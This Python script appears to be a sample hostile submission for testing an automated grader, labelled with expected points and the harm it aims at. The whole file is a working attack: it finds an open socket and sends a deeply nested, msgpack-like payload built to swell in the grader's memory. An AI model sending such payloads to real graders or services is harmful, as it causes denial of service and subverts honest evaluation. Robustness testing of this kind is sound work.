# tries: to blow three megabytes up to many times their size in the grader's memory
# points: 0
# harm: marks, memory
import os
import stat


def connection():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            pass


def frame(data):
    return len(data).to_bytes(4, "big") + data

COUNT = 5 * 10**5
BOMB = b"\x93\xa5tuple\xa5value\xdd" + (COUNT + 1).to_bytes(4, "big") + b"\xa4list" + b"\x91\xa4list" * COUNT

whole = memoryview(frame(BOMB))
while whole:
    whole = whole[os.write(connection(), whole) :]
